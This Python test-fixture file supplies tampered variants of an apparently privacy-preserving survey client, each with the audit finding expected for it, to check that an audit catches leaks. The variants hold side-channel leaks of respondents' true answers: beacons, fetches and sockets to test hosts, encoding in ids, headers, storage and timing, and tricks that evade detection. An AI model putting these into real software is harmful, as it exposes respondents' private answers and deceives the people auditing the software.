"""Programs and headers that cheat: each is a change to the real ones, and what an audit says of it.

What is true is what `truths` holds when the report is sent.
"""

import re
from dataclasses import replace
from typing import Final

from deniable.client.audit.engine import BROWSER_FOLDER
from tests.addresses import at
from tests.cheats.held_out import HELD_OUT, NOTHING, PAUSE, SURVEY, Cheat

_GROUPED: Final = SURVEY.with_name("exams.yaml")
"""Of which chance draws a group or a number."""

_SIGNED: Final = "what it has signed is not its id, hidden by chance alone"
_DIFFERS: Final = "a request differs in more than its message"
_SEND: Final = ("page/questionnaire.js", "  send(truths) {\n")
_START: Final = ("page/main.js", 'addEventListener("DOMContentLoaded", start);\n')


def _sending(code: str, said: str, *, is_allowed: bool = False) -> Cheat:
    """Do something when the report is sent."""
    file, text = _SEND
    return Cheat(((file, text, f"{text}    {code}\n"),), said, is_allowed)


def _starting(code: str, said: str, *, is_allowed: bool = False) -> Cheat:
    """Do something when the page opens."""
    file, text = _START
    return Cheat(((file, text, f"{code}\n{text}"),), said, is_allowed)


# As it stands there, whatever it is called with.
_FOUND: Final = re.findall(
    r"return makeReport\(survey, named, (\w+)(.*)\);",
    (BROWSER_FOLDER / "page" / "questionnaire.js").read_text(encoding="utf-8"),
)
_RANDOMISED, _WAVE = _FOUND[0]
_MAKE: Final = f"return makeReport(survey, named, {_RANDOMISED}{_WAVE});"
_LEAK: Final = f"`{at('doping')}told?${{truths}}`"
_TOLD: Final = at("doping", "told beside the report")
_PARITY: Final = (
    "named.slice(0, -1) + ((parseInt(named.slice(-1), 16) & 14) | truths[0]).toString(16)"
)


def _reporting(code: str, said: str) -> Cheat:
    """Make another report than the modules do."""
    return Cheat((("page/questionnaire.js", _MAKE, code),), said)


def _requesting(text: str, other: str, said: str) -> Cheat:
    """Send the report in another way, by whether `told` is true."""
    file, send = _SEND
    told = f"{send}    globalThis.told = truths[0];\n"
    return Cheat(((file, send, told), ("core/submission.js", text, other)), said)


def _reporting_if(condition: str, start: str = "") -> Cheat:
    """Send truths to those of whom a condition holds that the page can see."""
    code = f"return makeReport(survey, named, {condition} ? truths : {_RANDOMISED});"
    first = ((*_START, f"{start}\n{_START[1]}"),) if start else ()
    return Cheat((*first, *_reporting(code, "").edits), "a message is")


def _coming_with(name: str, value: str, end: str = at("doping")) -> Cheat:
    """Alter no byte, and send a header more."""
    return Cheat(
        (), f"a header came that is not harmless: {name.lower()}", False, ((end, name, value),)
    )


def _marked(markup: str, said: str, *, before: str = "</head>") -> Cheat:
    """Alter no script, and put something into the page."""
    return Cheat((), said, markup=(before, f"{markup}{before}"))


RULES: Final = at("doping", "rules.json")

FETCHED: Final = {
    "prefetch": [
        {
            "source": "document",
            "where": {"selector_matches": "body:has(.choice:last-of-type :checked) a"},
            "eagerness": "immediate",
        }
    ]
}
"""What browsers fetch when the last answer is ticked, whatever a policy says."""


CHEATS: dict[str, Cheat] = {
    "its modules are honest, the page sends truths": _reporting(
        "return makeReport(survey, named, truths);", "a message is"
    ),
    "truths, unless `navigator.webdriver` is set": _reporting(
        f"return makeReport(survey, named, navigator.webdriver ? {_RANDOMISED} : truths);",
        "a message is",
    ),
    "the truth in the last bit of the report's id": _reporting(
        f"return makeReport(survey, {_PARITY}, {_RANDOMISED});", "a message is"
    ),
    "the same, unless a word lies on a threshold": _reporting(
        "let sum = 0;\n"
        "const ends = survey.items[0].weights.flatMap((row) => row.map((one) => (sum += one)));\n"
        "const near = ends.some((end) => Math.abs((end % 2 ** 32) - words[0]) < 2);\n"
        f"return makeReport(survey, near ? named : {_PARITY}, {_RANDOMISED});",
        "a message is",
    ),
    "the order of the keys in the message": _reporting(
        f"const made = {_MAKE.removeprefix('return ')}\n"
        "return truths[0] ? Object.fromEntries(Object.entries(made).reverse()) : made;",
        "a message is",
    ),
    "the length of the message": _reporting(
        f"const made = {_MAKE.removeprefix('return ')}\n"
        "return truths[0] ? { ...made, more: 1 } : made;",
        "whatever is true",
    ),
    "a header of the request": Cheat(
        (
            ("page/questionnaire.js", _SEND[1], f"{_SEND[1]}    globalThis.told = truths[0];\n"),
            (
                "core/submission.js",
                '"Content-Type": "application/json"',
                '"Content-Type": globalThis.told ? "application/json" : "application/json; v=1"',
            ),
        ),
        _DIFFERS,
    ),
    "labels that stand at each other's answers": Cheat(
        (
            (
                "page/choices.js",
                "choiceRow(input, texts[order[place]])",
                "choiceRow(input, texts[texts.length - 1 - order[place]])",
            ),
        ),
        "a message is",
    ),
    "a group of questions, drawn by what is true": Cheat(
        (
            (
                "core/together.js",
                "if (asked.length === 0) continue;",
                (
                    "if (asked.length === 0) continue;\n"
                    "if (truths[places[0]] > 0) {\n"
                    "  places.forEach((place) => (sent[place] = NOT_DRAWN)); continue;\n}"
                ),
            ),
        ),
        "a message is",
        survey=_GROUPED,
    ),
    "chance of `Math.random`": Cheat(
        (
            (
                "core/chance.js",
                "  crypto.getRandomValues(words);",
                "  words.forEach((_, at) => (words[at] = Math.random() * 2 ** 32));",
            ),
        ),
        "Math.random was called",
    ),
    "noise that is drawn anew when it is sent": _sending(
        "crypto.getRandomValues(this.chance.words);", "it draws random words after the first answer"
    ),
    "a beacon": _sending(f"navigator.sendBeacon({_LEAK});", _TOLD),
    "a beacon when the page is left": _sending(
        f'addEventListener("pagehide", () => navigator.sendBeacon({_LEAK}));',
        at("doping", "told when it is left"),
    ),
    "a request of its own (fetch)": _sending(f"void fetch({_LEAK});", _TOLD),
    "a request of its own (XHR)": _sending(
        f'const told = new XMLHttpRequest(); told.open("GET", {_LEAK}); told.send();', _TOLD
    ),
    "the report twice": _sending(
        "if (truths[0]) void deliver(this.session, this.report(truths));",
        "it sends more than one report",
    ),
    "an event source": _sending(f"new EventSource({_LEAK});", "it makes a EventSource"),
    "a web socket": _sending(f"new WebSocket({_LEAK});", "it makes a WebSocket"),
    "a call (WebRTC)": _sending(
        'const call = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] });\n'
        'call.createDataChannel("told"); void call.setLocalDescription();',
        "it makes a RTCPeerConnection",
    ),
    "an image": _sending(f"new Image().src = {_LEAK};", _TOLD, is_allowed=True),
    "a picture behind a box that is ticked": _starting(
        "const sheet = new CSSStyleSheet();\n"
        f'sheet.replaceSync("main:has(:checked) {{ background: url({at("doping", "told")}) }}");\n'
        "document.adoptedStyleSheets = [sheet];",
        at("doping", "told while questions are answered"),
        is_allowed=True,
    ),
    "a picture that is loaded ahead": _sending(
        'const link = document.createElement("link"); link.rel = "prefetch";\n'
        f"link.href = {_LEAK}; document.head.append(link);",
        at("doping", "told"),
        is_allowed=True,
    ),
    "a connection to a name that tells": _sending(
        'const link = document.createElement("link"); link.rel = "preconnect";\n'
        "link.href = `https://told-${truths[0]}.example`; document.head.append(link);",
        "it opens a connection by another way",
    ),
    "a frame": _sending(
        f'const frame = document.createElement("iframe"); frame.src = {_LEAK};\n'
        "document.body.append(frame);",
        "it opens a frame of its own",
        is_allowed=True,
    ),
    "another window": _sending(f"window.open({_LEAK});", "it opens a page of its own"),
    "another page": _sending(f"location.href = {_LEAK};", at("doping", "told")),
    "a file that is saved": _sending(
        'const link = document.createElement("a"); link.download = `${truths[0]}.txt`;\n'
        'link.href = URL.createObjectURL(new Blob([""])); link.click();',
        "it saves a file by itself",
    ),
    "a worker": _sending('new Worker("/client/leave.js");', "it makes a Worker", is_allowed=True),
    "a service worker": _sending(
        'if (truths[0]) void navigator.serviceWorker.register("/client/leave.js").catch(() => {});',
        "it opens a service_worker of its own",
        is_allowed=True,
    ),
    "`localStorage`": _sending(
        'localStorage.setItem("told", String(truths[0]));', "localStorage depends on what is true"
    ),
    "`sessionStorage`": _sending(
        'sessionStorage.setItem("told", String(truths[0]));',
        "sessionStorage depends on what is true",
    ),
    "a database": _sending(
        "if (truths[0]) indexedDB.open(`told`);", "it keeps a cookie, database or cache"
    ),
    "a cookie": _sending(
        "document.cookie = `told=${truths[0]}; path=/`;", "it keeps a cookie, database or cache"
    ),
    "the address": _sending(
        'history.replaceState(history.state, "", `#${truths[0]}`);',
        "the browser's history depends on what is true",
    ),
    "the page's title": _sending(
        'document.title += truths[0] ? " " : ".";', "the browser's history depends on what is true"
    ),
    "the window's name": _sending(
        "window.name = `told ${truths[0]}`;", "the window's name depends on what is true"
    ),
    "a pause by a clock": _sending(
        "if (truths[0] && !this.waited) {\n"
        "  this.waited = true; setTimeout(() => this.send(truths), 300); return;\n}",
        "it sets a clock by setTimeout",
    ),
    "a pause without a clock": _sending(
        "for (let turn = 0; turn < 5e7 * truths[0]; turn += 1) globalThis.turn = turn;", PAUSE
    ),
    "a request ten minutes later": _sending(
        f"setTimeout(() => fetch({_LEAK}), 600000);", "it sets a clock by setTimeout"
    ),
    "truths, once in a thousand": _reporting(
        f"return makeReport(survey, named, words[0] % 1000 === 7 ? truths : {_RANDOMISED});",
        NOTHING,
    ),
    "truths, of whoever has this link with `#anna`": _reporting(
        f'return makeReport(survey, named, location.hash === "#anna" ? truths : {_RANDOMISED});',
        NOTHING,
    ),
    "truths, unless it finds the audit's traps": _reporting(
        "const native = `${crypto.getRandomValues}`.includes('getRandomValues');\n"
        f"return makeReport(survey, named, native ? truths : {_RANDOMISED});",
        NOTHING,
    ),
    "a header that fetches what a selector says": _coming_with("Speculation-Rules", f'"{RULES}"'),
    "a header whose word comes back with the report": _coming_with(
        "Use-As-Dictionary", 'match="/*", id="anna"'
    ),
    "a header that has the browser describe itself": _coming_with(
        "Accept-CH", "Sec-CH-UA-Model, Sec-CH-UA-Full-Version-List, Sec-CH-Viewport-Width"
    ),
    "a cookie of the server's": _coming_with("Set-Cookie", "who=anna", "/survey.json"),
    "a connection of one's own": _coming_with("Alt-Svc", 'h3="anna.example:443"'),
    "a link that is fetched ahead": _coming_with(
        "Link", f"<{at('doping')}anna>; rel=preload; as=fetch"
    ),
    "reports of the network": _coming_with("NEL", '{"report_to": "anna", "max_age": 86400}'),
    "a page that follows by itself": _coming_with("Refresh", f"3600; url={at('doping')}anna"),
    "a device that is made to forget": _coming_with("Clear-Site-Data", '"storage"', "/survey.json"),
    "a link for an answer, before the questions come": _marked(
        f'<p>Have you? <a href="{at("doping", "told")}">Yes</a></p>', NOTHING, before="<main"
    ),
    "a link for an answer, in the shadow of the page": _marked(
        f'<template shadowrootmode="closed"><a href="{at("doping", "told")}">Yes</a><slot></slot>'
        "</template>",
        NOTHING,
        before='\n    <header class="leave">',
    ),
    "markup by which another page follows": replace(
        _marked(
            f'<meta http-equiv="refresh" content="3600; url={at("doping", "told")}">',
            "it asks for GET",
        ),
        was_missed=True,
    ),
    "markup that connects to a name of its own": _marked(
        '<link rel="preconnect" href="https://anna.example">',
        "it opens a connection by another way",
    ),
    # Which words somebody has read no report may tell.
    "a report that names its wording": _reporting(
        f"return makeReport({{ ...survey, revision: survey.numbers[0] }}, named, {_RANDOMISED}"
        f"{_WAVE});",
        "a message is",
    ),
    "a wording that the device remembers": _sending(
        'localStorage.setItem("wording", this.session.survey.numbers[0]);', NOTHING
    ),
    "other words for every second visitor": Cheat(
        (), NOTHING, document=("Doping in sport", "Doping in sports")
    ),
}

_REVIEWED: Final[dict[str, Cheat]] = {
    "the cache of its request": _requesting(
        'cache: "no-store"', 'cache: globalThis.told ? "no-cache" : "no-store"', _DIFFERS
    ),
    "the mode of its request": _requesting(
        'cache: "no-store"',
        'mode: globalThis.told ? "same-origin" : "cors", cache: "no-store"',
        _DIFFERS,
    ),
    "the connection of its request": _requesting(
        'credentials: "omit"',
        'credentials: globalThis.told ? "same-origin" : "omit"',
        "by which connection it sends depends on what is true",
    ),
    "the pause after a refusal": _requesting(
        "await wait(Math.max(",
        "await wait((globalThis.told ? 2 : 1) * Math.max(",
        "how long it waits before it sends depends on what is true",
    ),
    "a second request that an answer's header asks for": _requesting(
        "    if (answer?.status === 410)",
        '    if (answer?.headers.get("X-Told")) void fetch(`${address}?${globalThis.told}`);\n'
        "    if (answer?.status === 410)",
        "it reads X-Told of an answer",
    ),
    "a beacon when another tab is looked at": _sending(
        'let left = false; addEventListener("pagehide", () => (left = true));\n'
        'document.addEventListener("visibilitychange", () => {\n'
        f"  if (!left) navigator.sendBeacon({_LEAK}); }});",
        at("doping", "told after the report"),
    ),
    "a request after an animation": _sending(
        f"document.body.animate([], 5000).finished.then(() => fetch({_LEAK}));",
        at("doping", "told after the report"),
    ),
    "a request after a wait for memory": _sending(
        "const cell = new Int32Array(new SharedArrayBuffer(4));\n"
        f"Atomics.waitAsync(cell, 0, 0, 3000).value.then(() => fetch({_LEAK}));",
        at("doping", "told after the report"),
    ),
    "a request after 300 frames": _sending(
        "let left = 300;\n"
        f"const frame = () => (left-- > 0 ? requestAnimationFrame(frame) : fetch({_LEAK}));\n"
        "frame();",
        "it counts the frames of pictures after its report",
    ),
    "where “Leave quickly” leads": _sending(
        'document.querySelector(".exit").dataset.site += `#${truths[0]}`;',
        "what the page shows after its report depends on what is true",
    ),
    "an empty cache": _sending(
        "void caches.open(`told-${truths[0]}`);", "it keeps a cookie, database or cache: cache told"
    ),
    "an empty storage bucket": _sending(
        "void navigator.storageBuckets.open(`told-${truths[0]}`);",
        "it keeps a cookie, database or cache: bucket told",
    ),
    "truths, on a phone": _reporting_if('matchMedia("(pointer: coarse)").matches'),
    "truths, after eight seconds": _reporting_if("performance.now() > 8000"),
    "truths, after the pointer has moved": _reporting_if(
        "globalThis.moved > 10",
        'addEventListener("pointermove", () => (globalThis.moved = (globalThis.moved ?? 0) + 1));',
    ),
    "truths, after a key": _reporting_if(
        "globalThis.typed", 'addEventListener("keydown", () => (globalThis.typed = true));'
    ),
    "truths, in another language": _reporting_if('!navigator.language.startsWith("en")'),
    "truths, on a second visit": _reporting_if(
        'sessionStorage.getItem("visits").length > 1',
        'sessionStorage.setItem("visits", `${sessionStorage.getItem("visits") ?? ""}1`);',
    ),
    "a token that is hidden by nothing": Cheat(
        (("core/blind.js", "numberOf(chance.slice(ends[1])) % numberOf(key)", "1n"),),
        _SIGNED,
        is_by_invitation=True,
    ),
    "the report's id beside its code": Cheat(
        (
            (
                "core/admission.js",
                "blinded: hidden.blinded }",
                "blinded: hidden.blinded, id }",
            ),
        ),
        _SIGNED,
        is_by_invitation=True,
    ),
}
"""Of a reviewer's: the audit of then found none of them."""

CHEATS |= {name: replace(one, was_missed=True) for name, one in _REVIEWED.items()}

ALL: Final = CHEATS | HELD_OUT
